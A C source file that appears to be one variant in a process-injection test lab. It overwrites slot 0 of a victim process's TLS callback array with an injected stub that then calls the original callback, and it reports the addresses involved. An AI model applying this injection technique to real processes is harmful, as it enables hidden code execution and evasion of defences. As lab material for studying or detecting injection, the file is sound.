/* tls-slot-overwrite.c - attack (b): overwrite slot 0 of the victim's
 * existing TLS callback array with the injected code, which calls the
 * original slot-0 callback when done. */
#include "attack.h"
#include "inject.h"

int main(void)
{
    struct victim v;
    victim_start(&v, "victim-tls.exe");
    IMAGE_NT_HEADERS64 nt;
    ULONG_PTR nt_at;
    victim_headers(&v, &nt, &nt_at);
    IMAGE_DATA_DIRECTORY dd = nt.OptionalHeader.DataDirectory[IMAGE_DIRECTORY_ENTRY_TLS];
    if (!dd.VirtualAddress)
        lab_die("victim-has-no-tls-directory");
    IMAGE_TLS_DIRECTORY64 dir;
    rd(&v, v.image_base + dd.VirtualAddress, &dir, sizeof dir, "read-tls-directory");
    ULONG_PTR original = 0;
    rd(&v, dir.AddressOfCallBacks, &original, 8, "read-slot0");
    if (!original)
        lab_die("empty-callback-array");
    ULONG_PTR stub = inj_place(v.pi.hProcess, original, INJ_MODE_TLS, "tls-slot-overwrite", NULL);
    if (!stub)
        lab_die("inj_place");
    wr(&v, dir.AddressOfCallBacks, &stub, 8, "overwrite-slot0");

    char detail[256];
    snprintf(detail, sizeof detail, "array=0x%llx slot0_original=0x%llx injected=0x%llx",
             (unsigned long long)dir.AddressOfCallBacks, (unsigned long long)original, (unsigned long long)stub);
    victim_report(&v, detail);
    return victim_finish(&v);
}
